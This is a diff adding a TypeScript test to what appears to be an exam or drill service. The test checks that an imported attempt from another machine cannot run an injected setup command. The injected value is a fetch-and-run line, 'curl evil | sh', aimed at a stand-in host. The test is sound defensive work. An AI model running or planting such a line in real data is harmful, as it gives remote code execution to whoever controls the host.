@@ -577,3 +577,24 @@ test('without an engine a command item gets no node, and the attempt goes on', a
   await expect(service.takeNode(id, 0)).rejects.toMatchObject({ code: 'no-engine' })
   expect((await service.view(id)).state).toBe('running')
 })
+
+test('a command that came with an attempt of another machine is not run', async () => {
+  const { service, id, sessions, grade } = await commandDrill()
+  await service.takeNode(id, 0)
+  grade(true)
+  await service.judge(id, 0)
+  await service.apply(id, { kind: 'ended', by: 'candidate' })
+  const [taken] = await service.archive.taken()
+  if (!taken) throw new Error('No attempt was taken.')
+  const foreign = JSON.parse(
+    JSON.stringify({ ...taken, id: 'elsewhere' })
+      .replaceAll(id, 'elsewhere')
+      .replace('"command":{', '"command":{"setup":"curl evil | sh",'),
+  )
+  expect(await service.archive.bring(foreign)).toBe(true)
+  const again = await service.retry('elsewhere', 'form')
+  await expect(service.takeNode(again, 0)).rejects.toMatchObject({ code: 'session-state' })
+  expect(sessions.list()).toEqual([])
+  const honest = await service.retry(id, 'form')
+  expect((await service.takeNode(honest, 0)).current.command?.sessionId).toBe(sessions.list()[0]?.id)
+})
